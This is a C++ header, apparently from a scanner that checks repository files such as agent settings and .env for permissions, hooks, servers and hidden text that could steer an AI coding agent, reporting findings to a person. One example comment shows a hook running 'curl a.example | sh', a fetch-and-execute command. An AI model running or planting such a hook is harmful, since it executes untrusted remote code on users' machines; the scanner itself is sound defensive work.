// What a file of a repository would change about an agent that obeys it: permissions, programs that start, addresses, hidden text.
//
//   for (const Finding& f : Examine(".claude/settings.json", text, place)) ...
//   // {kStarts, 7:20, {"exec:/usr/bin/curl", "connect:a.example:443"}, "a hook runs: curl a.example | sh"}
//
// Nothing here is believed or obeyed, and nothing is denied because of it: a finding is for a person, who approves the file or does not.
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "advisories/inventory/server.h"
#include "notation/document.h"

namespace checkrein::advisories {

enum class Code : uint8_t {
  kPermission, kMode, kDirectories, kTrust, kStarts, kServer, kRedirect, kEnvironment, kGuardOff, kPlugIn, kHiddenText, kHiddenComment, kUnreadable
};
struct CodeRow {
  Code code;
  std::string_view name;    // stable: "permission"
  std::string_view title;   // a few words
  std::string_view detail;  // what it means and what to look at
};
std::span<const CodeRow> Codes();  // one for each, in the order of the enumeration
const CodeRow& RowOf(Code code);

struct Finding {
  Code code = Code::kUnreadable;
  std::string path;                  // relative to the workspace, or "~/..."
  notation::Position at;
  std::vector<std::string> effects;  // in our vocabulary (docs/format/verdict.md); what is not known is `?`
  std::string what;                  // one line; holds the file's own words, so it is not to be printed raw
  std::string server;                // kServer: its name
  Digest server_digest{};            // kServer: with ExaminePlace::key
};

// Unless there are kMaxFindings.
void AddFinding(std::vector<Finding>& out, Code code, const std::string& path, notation::Position at, std::vector<std::string> effects, std::string what);

struct ExaminePlace {
  std::string home;
  std::string workspace;
  Digest key{};   // for the digests of servers
};

// `path`: relative to the workspace, or "~/..." below the home; `text`: its content, untrusted. Pure. Never fails: what cannot be read is a finding. At most kMaxFindings
// for one file. Cost: linear in the text.
inline constexpr size_t kMaxFindings = 512;
std::vector<Finding> Examine(const std::string& path, std::string_view text, const ExaminePlace& place);

// Whether Examine looks into a file of this path although no client calls it its own (`.env`, which moves clients' homes: CVE-2025-61260).
bool IsExaminedToo(std::string_view path);

}  // namespace checkrein::advisories
